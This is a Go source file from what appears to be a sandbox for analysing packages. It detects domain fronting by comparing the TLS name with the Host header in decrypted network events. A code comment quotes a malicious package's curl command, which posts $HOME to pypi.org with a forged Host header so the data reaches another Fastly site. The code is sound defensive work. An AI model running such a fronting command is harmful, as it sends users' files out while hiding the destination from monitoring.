package report

import (
	"strings"

	"github.com/moat-sandbox/moat"
)

// fronting finds requests sent inside a TLS connection made to one name
// with the Host header of another site: domain fronting, the way to
// reach a server that the connection's name (what a firewall or a proxy
// log sees) does not show. important-package-0.1.17 posts $HOME with
// `curl -k -X POST https://pypi.org -H "Host: psec.forward.io.global.prod.fastly.net"`:
// pypi.org's CDN would pass it on to the other Fastly site. The sink
// decrypts the TLS (its CA) and its event says both names: "tls
// sni=NAME decrypted https METHOD host=HOST". A Host that is the TLS
// name, with or without a port or a trailing dot, in any case, is the
// same site; a flow with no SNI (a connection by address) names none.
func (a *analysis) fronting() {
	var evs []moat.Event
	var notes []string
	for _, e := range a.evs {
		if e.Source != moat.SourceNetwork || e.Kind != moat.KindConnect {
			continue
		}
		sni, host, ok := frontedNames(e.Detail)
		if !ok {
			continue
		}
		evs = append(evs, e)
		notes = append(notes, "TLS to "+sni+", Host "+host)
	}
	if len(evs) > 0 {
		a.add(moat.CategoryEvasion, moat.SeverityHigh, "sent requests inside a TLS connection to one site with the Host of another (domain fronting: the connection's name hides where the request goes): "+
			joinBounded(uniq(notes), 3), evs)
	}
}

// frontedNames reads the sink's detail of a decrypted flow: the TLS name
// and the Host header of the request inside, when they name different
// sites.
func frontedNames(detail string) (sni, host string, ok bool) {
	if !strings.Contains(detail, " decrypted https ") {
		return "", "", false
	}
	for _, f := range strings.Fields(detail) {
		if v, found := strings.CutPrefix(f, "sni="); found && sni == "" {
			sni = v
		} else if v, found := strings.CutPrefix(f, "host="); found {
			host = v // the last: the request's in clear, after the TLS name
		}
	}
	if sni == "" || host == "" {
		return "", "", false
	}
	return sni, host, siteName(sni) != siteName(host)
}

// siteName is a host without its port and trailing dot, in lower case.
func siteName(h string) string {
	if i := strings.LastIndexByte(h, ':'); i >= 0 && !strings.Contains(h[i+1:], "]") && strings.Count(h, ":") == 1 {
		h = h[:i]
	}
	return strings.ToLower(strings.TrimSuffix(h, "."))
}
